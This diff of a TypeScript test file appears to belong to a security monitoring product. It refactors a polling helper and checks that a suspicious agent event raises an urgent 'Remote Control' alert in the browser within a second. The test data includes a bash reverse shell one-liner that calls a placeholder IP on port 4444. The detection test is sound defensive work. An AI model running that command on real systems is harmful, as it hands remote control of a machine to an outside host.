@@ -1,17 +1,9 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
-import { setTimeout as wait } from 'node:timers/promises'
+import { until } from '../../../test/until.ts'
 import { enrolAgent, TestAgent } from './testing/test-agent.ts'
 import { TestConsole } from './testing/test-console.ts'
 import { startTestServer } from './testing/test-server.ts'
-
-async function until(condition: () => boolean | Promise<boolean>, limitMs = 5000): Promise<void> {
-  const end = Date.now() + limitMs
-  while (!(await condition())) {
-    if (Date.now() > end) throw new Error('timed out')
-    await wait(10)
-  }
-}
 
 test('an event of an agent becomes an alert that a browser sees at once, with its details', async (t) => {
   const { server, end } = await startTestServer()
@@ -24,15 +16,15 @@ test('an event of an agent becomes an alert that a browser sees at once, with it
   await browser.begin(server.firstUser)
   const live: { name: string; data: unknown; at: number }[] = []
   const stream = await browser.stream((name, data) => live.push({ name, data, at: performance.now() }))
-  await until(() => live.some((message) => message.name === 'banners'))
+  await until('the banners', () => live.some((message) => message.name === 'banners'))
 
   const sentAt = performance.now()
   await agent.deliver(1, [agent.started(1, 'ls -l'), agent.started(2, 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')])
-  await until(() => live.some((message) => message.name === 'alert.raised'))
+  await until('the alert', () => live.some((message) => message.name === 'alert.raised'))
   const raised = live.find((message) => message.name === 'alert.raised')
   assert.ok(raised)
   assert.ok(raised.at - sentAt < 1000, `${raised.at - sentAt} ms`)
-  await until(() => live.filter((message) => message.name === 'summary').length > 1)
+  await until('the summary', () => live.filter((message) => message.name === 'summary').length > 1)
 
   const page = await browser.call('listAlerts', { query: 'level=Urgent&stage=Remote%20Control' })
   assert.equal(page.status, 200)
